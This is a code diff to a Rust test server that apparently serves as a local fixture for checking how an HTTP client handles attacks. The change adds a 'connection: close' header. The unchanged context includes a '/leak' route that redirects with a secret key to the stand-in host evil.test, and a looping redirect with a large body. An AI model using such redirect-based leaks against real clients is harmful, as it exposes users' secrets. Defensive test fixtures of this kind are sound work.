@@ -26,6 +26,10 @@ struct Kept {
     key: Mutex<String>,
 }
 
+/// One request a connection. Whoever is not told may send its next one into a connection that is just
+/// being closed, and nobody gets it.
+const CLOSES: &str = "connection: close\r\n";
+
 /// A server on this machine, for one attack alone: so it is known what reaches it.
 pub struct Erp {
     pub port: u16,
@@ -104,7 +108,7 @@ async fn answer(mut stream: TcpStream, kept: &Kept) -> io::Result<()> {
         "/around-with-a-body" => {
             let head = "HTTP/1.1 302 Found\r\nlocation: /around-with-a-body\r\n";
             let body = "x".repeat(60_000);
-            let head = format!("{head}content-length: {}\r\n\r\n{body}", body.len());
+            let head = format!("{head}{CLOSES}content-length: {}\r\n\r\n{body}", body.len());
             stream.write_all(head.as_bytes()).await?;
         }
         "/leak" => redirect(&mut stream, &format!("http://evil.test/{key}")).await?,
@@ -185,11 +189,11 @@ async fn request(stream: &mut TcpStream) -> io::Result<String> {
 }
 
 fn page(body: &str) -> Vec<u8> {
-    format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{body}", body.len()).into_bytes()
+    format!("HTTP/1.1 200 OK\r\n{CLOSES}content-length: {}\r\n\r\n{body}", body.len()).into_bytes()
 }
 
 async fn redirect(stream: &mut TcpStream, to: &str) -> io::Result<()> {
-    let head = format!("HTTP/1.1 302 Found\r\nlocation: {to}\r\ncontent-length: 0\r\n\r\n");
+    let head = format!("HTTP/1.1 302 Found\r\n{CLOSES}location: {to}\r\ncontent-length: 0\r\n\r\n");
     stream.write_all(head.as_bytes()).await
 }
 
